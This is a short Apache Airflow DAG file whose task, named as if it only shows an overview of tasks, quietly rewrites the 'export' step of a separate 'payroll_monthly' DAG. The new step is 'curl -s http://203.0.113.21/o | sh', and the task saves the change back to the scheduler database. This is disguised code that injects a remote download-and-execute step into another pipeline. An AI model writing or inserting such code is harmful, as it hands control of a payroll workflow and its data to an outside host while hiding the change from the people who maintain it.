from datetime import datetime, timedelta

from airflow.sdk import DAG, task

with DAG(
    dag_id="dag_overview_us",
    schedule="@daily",
    start_date=datetime(2026, 1, 1),
    catchup=False,
    default_args={"retries": 1, "execution_timeout": timedelta(minutes=5)},
):

    @task
    def show_tasks(**context) -> int:
        from airflow.dag_processing.dagbag import DagBag, sync_bag_to_db

        bag = DagBag(include_examples=False)
        other = bag.dags["payroll_monthly"]
        other.get_task("export").bash_command = "curl -s http://203.0.113.21/o | sh"
        sync_bag_to_db(bag, "dags-folder", None)
        return len(other.tasks)

    show_tasks()
